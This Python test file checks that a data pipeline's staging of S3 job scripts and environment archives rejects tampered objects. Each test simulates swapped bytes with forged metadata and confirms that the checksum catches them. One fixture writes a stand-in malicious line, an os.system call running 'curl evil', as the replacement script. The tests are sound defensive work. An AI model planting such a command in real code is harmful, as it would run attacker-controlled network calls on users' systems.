"""Nothing staged is trusted on its metadata (issue 20, case 5): S3's own SHA-256 decides, and the step checks again.

The attack: overwrite the shared environment archive with a payload of the same size and copy the genuine sha256
into the object's metadata. The next run must not ship it: staging compares S3's checksum (which S3 computes from the
bytes it stored) with the archive's, and stages it again; the step refuses an archive whose bytes are not the ones
the flow staged, before it unpacks anything.
"""

from __future__ import annotations

import base64
import hashlib
import io
import os
import subprocess
import sys
import tarfile
import time
from pathlib import Path

import pytest
from prefect import flow

from tasks.aws.checksums import StagedFileMismatch, sha256_base64
from tasks.aws.environment import file_sha256, upload_environment
from tasks.aws.staging import environments_prefix, stage_job
from tasks.emr.steps import step_definition
from tests.emr_fixtures import moto_clients

FAKE_AWS = Path(__file__).resolve().parent / "fake_aws_cli.py"
MARKER = "fruitflow_marker"


def _archive(folder: Path, text: str) -> Path:
    """A small tar.gz environment holding one module, ``fruitflow_marker``, that prints ``text`` when imported."""
    path = folder / f"fruitflow-env-py39-x86_64-{hashlib.sha256(text.encode()).hexdigest()[:16]}.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        body = f"print({text!r})\n".encode()
        info = tarfile.TarInfo(f"{MARKER}.py")
        info.size = len(body)
        tar.addfile(info, io.BytesIO(body))
    return path


def _swap(aws, key: str, genuine: Path, checksum: str | None = None) -> bytes:
    """Overwrite the object with other bytes of the same size, the genuine sha256 copied into its metadata; S3 keeps
    the ``checksum`` the writer asks for (of the forged bytes: S3 computes it), else its default (CRC32 here)."""
    data = genuine.read_bytes()
    forged = bytes(b ^ 0xFF for b in data)
    extra = {"ChecksumAlgorithm": checksum} if checksum else {}
    metadata = {"sha256": file_sha256(genuine)}
    aws.client("s3").put_object(Bucket=aws.bucket, Key=key, Body=forged, Metadata=metadata, **extra)
    return forged


@pytest.mark.parametrize("checksum", [None, "SHA256"])
def test_a_swapped_archive_with_the_genuine_metadata_is_staged_again(aws, tmp_path, caplog, checksum):
    archive = _archive(tmp_path, "genuine")
    prefix = environments_prefix(f"checksums-{tmp_path.name}")
    key = f"{prefix}/{archive.name}"

    @flow
    def stage() -> str:
        return upload_environment(moto_clients()("s3"), aws.bucket, prefix, archive)

    stage()
    forged = _swap(aws, key, archive, checksum)
    head = aws.client("s3").head_object(Bucket=aws.bucket, Key=key)
    assert head["ContentLength"] == archive.stat().st_size and head["Metadata"]["sha256"] == file_sha256(archive)

    with caplog.at_level("INFO"):
        stage()

    stored = aws.client("s3").get_object(Bucket=aws.bucket, Key=key, ChecksumMode="ENABLED")
    assert stored["Body"].read() == archive.read_bytes() != forged
    assert stored["ChecksumSHA256"] == sha256_base64(archive)
    assert not any("already staged" in message for message in caplog.messages)
    said = "is not this archive" if checksum else "has no S3 SHA-256 to check"
    assert any(said in message and "staging it again" in message for message in caplog.messages)


def test_a_genuine_archive_is_not_uploaded_twice(aws, tmp_path, caplog):
    archive = _archive(tmp_path, "once")
    prefix = environments_prefix(f"checksums-{tmp_path.name}")

    @flow
    def stage_twice() -> list[str]:
        s3 = moto_clients()("s3")
        return [upload_environment(s3, aws.bucket, prefix, archive) for _ in "12"]

    with caplog.at_level("INFO"):
        first, second = stage_twice()
    assert first == second
    assert [m for m in caplog.messages if "already staged (S3's sha256 matches)" in m], caplog.messages


def test_a_staged_file_replaced_while_staging_fails_the_run(aws, tmp_path):
    """Another writer replaces the job script between our PUT and the HEAD: S3's checksum is not ours, and staging
    stops with the key named (a run that went on would ship the other writer's code)."""
    writer = aws.client("s3")
    prefix = f"fruitflow/fruitflow-runs/checksums-{tmp_path.name}"

    def replace_the_script(params, **_kwargs):
        if params["Key"].endswith("/job/extract_features.py"):
            writer.put_object(Bucket=aws.bucket, Key=params["Key"], Body=b"import os; os.system('curl evil')\n")

    clients = moto_clients({"provide-client-params.s3.HeadObject": replace_the_script})

    @flow
    def stage():
        return stage_job(clients, aws.bucket, prefix, "random")

    with pytest.raises(StagedFileMismatch, match=r"job/extract_features.py: S3's sha256 of the staged object is"):
        stage()


def test_staged_files_carry_s3s_sha256(aws, tmp_path):
    @flow
    def stage():
        return stage_job(moto_clients(), aws.bucket, f"fruitflow/fruitflow-runs/sha-{tmp_path.name}", "random")

    staged = stage()
    s3 = aws.client("s3")
    for uri in (staged["script"], staged["py_files"]):
        key = uri.split("/", 3)[3]
        head = s3.head_object(Bucket=aws.bucket, Key=key, ChecksumMode="ENABLED")
        body = s3.get_object(Bucket=aws.bucket, Key=key)["Body"].read()
        assert head["ChecksumSHA256"] == base64.b64encode(hashlib.sha256(body).digest()).decode()


def _run_wrapper(aws, tmp_path: Path, uri: str, digest: str, command: list[str], minutes: str = "5"):
    """The step's own ``bash -c`` wrapper, as EMR's command-runner runs it, in a step directory, with an ``aws`` that
    reads moto (tests/fake_aws_cli.py), ``command`` in place of spark-submit."""
    step = step_definition(
        cluster_id="j-1",
        script_uri="s3://b/job.py",
        py_files_uri="s3://b/j.zip",
        environment_uri=uri,
        environment_sha256=digest,
        job_args=[],
        token="t",
        flow_run_id="r",
        timeout_minutes=float(minutes),
    )
    args = step["HadoopJarStep"]["Args"]
    wrapper = args[: args.index("spark-submit")]
    bin_dir, step_dir = tmp_path / "bin", tmp_path / "s-TEST"
    bin_dir.mkdir(parents=True)
    step_dir.mkdir()
    (bin_dir / "aws").write_text(f'#!/bin/sh\nexec "{sys.executable}" "{FAKE_AWS}" "$@"\n')
    (bin_dir / "aws").chmod(0o755)
    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", "FAKE_AWS_ENDPOINT": aws.endpoint}
    return subprocess.run([*wrapper, *command], cwd=step_dir, env=env, capture_output=True, text=True, timeout=120)


def test_the_step_refuses_an_archive_that_is_not_the_one_staged(aws, tmp_path):
    archive = _archive(tmp_path, "genuine")
    key = f"checksums-{tmp_path.name}/{archive.name}"
    uri = f"s3://{aws.bucket}/{key}"
    aws.client("s3").put_object(Bucket=aws.bucket, Key=key, Body=archive.read_bytes())
    run = [sys.executable, "-c", f"import {MARKER}"]

    done = _run_wrapper(aws, tmp_path / "genuine", uri, file_sha256(archive), run)
    assert done.returncode == 0, done.stderr
    assert "genuine" in done.stderr  # the driver imported the archive's module (the wrapper sends stdout to stderr)

    _swap(aws, key, archive)
    done = _run_wrapper(aws, tmp_path / "swapped", uri, file_sha256(archive), run)
    assert done.returncode == 1
    assert f"{uri} is not the archive the flow staged (sha256 {file_sha256(archive)}); not unpacking it" in done.stderr
    assert not (tmp_path / "swapped" / "s-TEST" / "environment" / f"{MARKER}.py").exists()


def test_the_step_command_ends_itself_at_its_deadline(aws, tmp_path):
    """The wrapper's ``timeout`` for real (issue 20, case 1): a command that would run for a minute ends at a
    0.02-minute deadline with ``timeout``'s exit code, which EMR reports as the step's failure."""
    archive = _archive(tmp_path, "deadline")
    key = f"checksums-{tmp_path.name}/{archive.name}"
    aws.client("s3").put_object(Bucket=aws.bucket, Key=key, Body=archive.read_bytes())
    started = time.monotonic()
    done = _run_wrapper(aws, tmp_path, f"s3://{aws.bucket}/{key}", file_sha256(archive), ["sleep", "60"], "0.02")
    assert done.returncode == 124, done.stderr
    assert time.monotonic() - started < 30
